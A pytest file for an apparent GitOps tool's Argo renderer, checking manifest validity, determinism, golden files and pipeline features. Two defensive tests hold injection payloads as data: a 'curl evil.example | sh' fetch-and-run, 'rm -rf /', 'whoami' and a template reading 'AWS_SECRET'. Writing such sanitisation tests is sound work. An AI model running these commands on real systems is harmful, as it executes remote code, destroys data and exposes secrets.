"""The Argo backend: rendered documents are strictly valid, deterministic, safe against hostile
manifests, carry every pipeline feature, and match the golden files.

Golden files are regenerated only on request: LLMGITOPS_UPDATE_GOLDEN=1 pytest tests/unit/argo.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path
from typing import Any

import golden_repo
import pytest
import yaml
from argo_reference import problems, reference_available

from conftest import REPO_ROOT, commit_all, copy_example, git, init_git
from llmgitops.backends.argo.render import Baseline, render, stale, write
from llmgitops.backends.argo.sdk import to_plain, unknown_fields

GOLDEN = REPO_ROOT / "tests" / "golden" / "argo"
needs_reference = pytest.mark.skipif(not reference_available(), reason="the reference schemas (../shared/reference) are not available")

OLD_MODEL = golden_repo.MODEL.replace("version: 1.3.0", "version: 1.2.0").replace(
    "learning_rate: 0.0002", "learning_rate: 0.0001").replace("s3://models/chat/1.3.0", "s3://models/chat/1.2.0")
OLD_PROMPT = golden_repo.PROMPT.replace("version: 2.0.0", "version: 1.9.0").replace("Answer briefly.", "Answer.")


def documents(files: dict[str, bytes]) -> dict[str, dict[str, Any]]:
    return {path: yaml.safe_load(content) for path, content in files.items()}


@pytest.fixture
def promoted(tmp_path: Path) -> Path:
    """The golden repository right after a promotion changed chat (retrain) and answer in staging, with
    the release record of the state before committed, as a promotion leaves it."""
    root = init_git(tmp_path / "golden")
    golden_repo.write(root, staging={"models/chat.yaml": OLD_MODEL, "prompts/answer.yaml": OLD_PROMPT})
    write(root, render(root, ["staging"]))
    commit_all(root, "staging before")
    golden_repo.write(root)
    write(root, render(root, ["staging"]))
    commit_all(root, "promote chat 1.3.0 and answer 2.0.0")
    return root


def test_golden_files(promoted: Path) -> None:
    rendered = render(promoted, ["staging"])
    assert rendered.findings == []
    actual = {Path(p).name if "/argocd/" not in p else "application.yaml": c for p, c in rendered.files.items()}
    if os.environ.get("LLMGITOPS_UPDATE_GOLDEN") == "1":
        shutil.rmtree(GOLDEN, ignore_errors=True)
        GOLDEN.mkdir(parents=True)
        for name, content in actual.items():
            (GOLDEN / name).write_bytes(content)
    expected = {p.name: p.read_bytes() for p in sorted(GOLDEN.glob("*.yaml"))}
    assert sorted(actual) == sorted(expected), "set LLMGITOPS_UPDATE_GOLDEN=1 to regenerate on purpose"
    for name in expected:
        assert actual[name] == expected[name], f"{name} differs from tests/golden/argo/{name}"


@needs_reference
def test_every_document_of_the_golden_repository_is_strictly_valid(promoted: Path) -> None:
    for path, doc in documents(render(promoted, ["staging"]).files).items():
        assert problems(doc) == [], path


@needs_reference
def test_every_document_of_the_bundled_example_is_strictly_valid() -> None:
    rendered = render(REPO_ROOT)
    assert rendered.files
    for path, doc in documents(rendered.files).items():
        assert problems(doc) == [], path


@needs_reference
def test_strict_validation_rejects_a_misspelt_field(promoted: Path) -> None:
    docs = documents(render(promoted, ["staging"]).files)
    workflow = docs["workflows/staging/workflow.yaml"]
    workflow["spec"]["templates"][0]["dag"]["tasks"][0]["dependz"] = "validate"
    isvc = docs["workflows/staging/inferenceservice-chat.yaml"]
    isvc["spec"]["predictor"]["canaryTrafficPercnt"] = 5
    rollout = docs["workflows/staging/rollout.yaml"]
    rollout["spec"]["strategy"]["canary"]["steps"][0]["setWieght"] = 5
    assert any("dependz" in p for p in problems(workflow))
    assert any("canaryTrafficPercnt" in p for p in problems(isvc))
    assert any("setWieght" in p for p in problems(rollout))


def test_the_sdk_models_are_checked_for_unknown_keywords() -> None:
    from argo_workflows.model.io_argoproj_workflow_v1alpha1_retry_strategy import (
        IoArgoprojWorkflowV1alpha1RetryStrategy as RetryStrategy,
    )

    typo = RetryStrategy(limit="3", retry_polcy="Always")
    assert unknown_fields(typo) == ["retry_polcy is not a field of IoArgoprojWorkflowV1alpha1RetryStrategy"]
    with pytest.raises(ValueError, match="retry_polcy"):
        to_plain(typo)


def test_rendering_is_deterministic_across_runs_and_checkouts(promoted: Path, tmp_path: Path) -> None:
    first = render(promoted, ["staging"]).files
    assert render(promoted, ["staging"]).files == first
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{promoted}", str(clone))
    assert render(clone, ["staging"]).files == first  # a shallow clone renders the same bytes
    assert stale(clone, render(clone, ["staging"])) == []


def test_the_workflow_carries_every_pipeline_feature(promoted: Path) -> None:
    rendered = render(promoted, ["staging"])
    env = rendered.environments["staging"]
    docs = documents(rendered.files)
    wf = docs["workflows/staging/workflow.yaml"]
    wt = docs["workflows/staging/workflowtemplate.yaml"]
    templates = {t["name"]: t for t in wt["spec"]["templates"]}
    tasks = {t["name"]: t for t in wf["spec"]["templates"][0]["dag"]["tasks"]}
    # the run is named by the state, so a re-sync of the same state creates nothing new
    assert wf["metadata"]["name"] == f"llmgitops-staging-{env.release.state[:12]}"
    assert wf["spec"]["arguments"]["parameters"][1] == {"name": "state", "value": env.release.state}
    assert wf["metadata"]["annotations"]["argocd.argoproj.io/sync-options"] == "Prune=false"
    # one promotion per environment at a time
    assert wf["spec"]["synchronization"] == {"mutexes": [{"name": "llmgitops-staging"}]}
    # rollback when the workflow did not succeed
    assert wf["spec"]["onExit"] == "rollback"
    exit_tasks = {t["name"]: t for t in wf["spec"]["templates"][1]["dag"]["tasks"]}
    assert exit_tasks["pin-chat"]["when"] == "{{workflow.status}} != Succeeded"
    assert exit_tasks["pin-chat"]["templateRef"]["template"] == "kserve-traffic-0"
    assert exit_tasks["abort-app"]["templateRef"]["template"] == "rollout-abort"
    # retries with backoff on transient steps, none on gates
    assert templates["evaluate"]["retryStrategy"]["backoff"] == {"duration": "30s", "factor": "2",
                                                                 "maxDuration": "15m"}
    assert "75" in templates["evaluate"]["retryStrategy"]["expression"]
    assert "retryStrategy" not in templates["analyze"] and "retryStrategy" not in templates["validate"]
    # GPUs on train
    assert templates["train"]["container"]["resources"]["limits"] == {"nvidia.com/gpu": "{{inputs.parameters.gpus}}"}
    assert {p["name"]: p["value"] for p in tasks["train-chat"]["arguments"]["parameters"]}["gpus"] == "2"
    # evaluation fan-out over shards, then merge
    assert tasks["evaluate-answer-quality"]["withItems"] == [{"shard": "1"}, {"shard": "2"}, {"shard": "3"}]
    assert tasks["merge-answer-quality"]["depends"] == "evaluate-answer-quality"
    assert tasks["evaluate-answer-quality"]["depends"] == "train-chat && validate"
    # approvals: one suspend per required approval, outcome and approvers recorded as outputs
    assert templates["approve"]["suspend"] == {}
    assert [p["name"] for p in templates["approve"]["outputs"]["parameters"]] == ["decision", "approver"]
    recorded = {p["name"]: p for p in templates["record-approval"]["outputs"]["parameters"]}
    assert recorded["approvers"]["globalName"] == "approval-approvers"
    assert recorded["decision"]["globalName"] == "approval-decision"
    assert tasks["approve-2"]["depends"] == "approve-1"
    assert tasks["record-approval"]["depends"] == "approve-2"
    # canary at each weight, analysis after it; the KServe traffic share is the workflow's
    assert [n for n in tasks if n.startswith("analyze-")] == ["analyze-10", "analyze-50", "analyze-100"]
    assert tasks["canary-10-chat"]["templateRef"]["template"] == "kserve-traffic-10"
    assert tasks["wait-10"]["depends"] == "canary-10-app && canary-10-chat"
    assert templates["analysis-wait"]["suspend"] == {"duration": "2m"}  # the canary takes traffic first
    assert tasks["analyze-10"]["depends"] == "wait-10"
    assert tasks["promote-full-chat"]["depends"] == "record-approval"
    # re-embedding waits for the evaluations
    assert "reindex-docs" not in tasks  # docs did not change


def test_argocd_application_leaves_canary_traffic_to_the_workflow(promoted: Path) -> None:
    app = documents(render(promoted, ["staging"]).files)["workflows/argocd/staging.yaml"]
    assert app["spec"]["ignoreDifferences"] == [{"group": "serving.kserve.io", "kind": "InferenceService",
                                                 "jsonPointers": ["/spec/predictor/canaryTrafficPercent"]}]
    assert "RespectIgnoreDifferences=true" in app["spec"]["syncPolicy"]["syncOptions"]
    assert app["spec"]["syncPolicy"]["automated"] == {"prune": True, "selfHeal": True}
    assert app["spec"]["source"]["path"] == "workflows/staging"
    assert app["spec"]["source"]["repoURL"] == "https://git.example.com/acme/llm-config.git"


def test_changed_predictors_are_pinned_before_argo_cd_applies_them(promoted: Path) -> None:
    docs = documents(render(promoted, ["staging"]).files)
    arm = docs["workflows/staging/workflow-arm.yaml"]
    isvc = docs["workflows/staging/inferenceservice-chat.yaml"]
    wave = "argocd.argoproj.io/sync-wave"
    assert int(arm["metadata"]["annotations"][wave]) < int(isvc["metadata"]["annotations"][wave]) < int(
        docs["workflows/staging/workflow.yaml"]["metadata"]["annotations"][wave])
    assert [t["templateRef"]["template"] for t in arm["spec"]["templates"][0]["dag"]["tasks"]] == ["kserve-traffic-0"]
    assert "canaryTrafficPercent" not in isvc["spec"]["predictor"]  # owned by the workflow, never by Git
    assert isvc["spec"]["predictor"]["minReplicas"] == 2  # the environment's override applies


EXPRESSION = re.compile(r"\{\{.*?\}\}", re.S)
ALLOWED = re.compile(r"^\{\{(inputs\.parameters\.[a-z]+|workflow\.(parameters\.(ref|state)|name|status)|item\.shard"
                     r"|tasks\.[a-z0-9-]+\.outputs\.parameters\.[a-z]+)\}\}$")


def test_hostile_manifest_text_never_reaches_a_rendered_file(tmp_path: Path) -> None:
    hostile = ('{{workflow.parameters.x}} $(curl -s evil.example | sh) `id`; rm -rf / && echo "pwned" '
               "${HOME} {{=sprig.env('AWS_SECRET')}}")
    prompt = golden_repo.PROMPT.replace("content: Answer briefly.", "content: " + repr(hostile).replace("'", '"'))
    prompt = prompt.replace('content: "<question>{{ question }}</question>"',
                            'content: "<q>{{ question }}</q> {{ steps.x.outputs.result }} $(whoami)"')
    root = golden_repo.write(init_git(tmp_path / "hostile"), staging={"prompts/answer.yaml": prompt})
    assert "pwned" in (root / "environments/staging/prompts/answer.yaml").read_text()
    rendered = render(root, ["staging"])
    for path, content in rendered.files.items():
        text = content.decode()
        for needle in ("pwned", "evil.example", "whoami", "AWS_SECRET", "Answer briefly", "<q>", "steps.x"):
            assert needle not in text, (path, needle)
        for expression in EXPRESSION.findall(text):
            assert ALLOWED.match(expression), (path, expression)


def test_unsafe_values_from_manifests_are_findings_not_text(tmp_path: Path) -> None:
    model = golden_repo.MODEL.replace("dtype: bfloat16", 'dtype: "{{workflow.parameters.x}}; rm -rf /"')
    root = golden_repo.write(init_git(tmp_path / "unsafe"), staging={"models/chat.yaml": model})
    rendered = render(root, ["staging"])
    assert [(f.rule, f.path) for f in rendered.findings] == [
        ("render/unsafe-value", "environments/staging/models/chat.yaml")]
    assert rendered.findings[0].line > 1
    assert all(b"rm -rf" not in c for c in rendered.files.values())


def test_local_targets_render_nothing_and_missing_settings_warn(tmp_path: Path) -> None:
    root = copy_example(tmp_path / "example")
    rendered = render(root, baseline=Baseline(None, None))
    assert "dev" in rendered.skipped and "local" in rendered.skipped["dev"]
    assert not any(p.startswith("workflows/dev/") for p in rendered.files)
    rules = {f.rule for f in rendered.findings}
    if "llmgitops.dev/repo-url" not in (root / "environments/staging/environment.yaml").read_text():
        assert "render/repo-url-unset" in rules
        assert all(f.severity.value == "warning" for f in rendered.findings)


def test_stale_reports_missing_edited_and_extra_files(promoted: Path) -> None:
    rendered = render(promoted, ["staging"])
    assert stale(promoted, rendered) == []
    (promoted / "workflows/staging/workflow.yaml").write_text("edited\n")
    (promoted / "workflows/staging/rollout.yaml").unlink()
    (promoted / "workflows/staging/leftover.yaml").write_text("kind: ConfigMap\n")
    found = {(f.path, f.message) for f in stale(promoted, rendered)}
    assert found == {
        ("workflows/staging/workflow.yaml", "rendered file is stale or edited by hand"),
        ("workflows/staging/rollout.yaml", "rendered file is missing"),
        ("workflows/staging/leftover.yaml", "file is not produced by render from the current manifests"),
    }
    write(promoted, rendered)
    assert stale(promoted, rendered) == []
    assert not (promoted / "workflows/staging/leftover.yaml").exists()
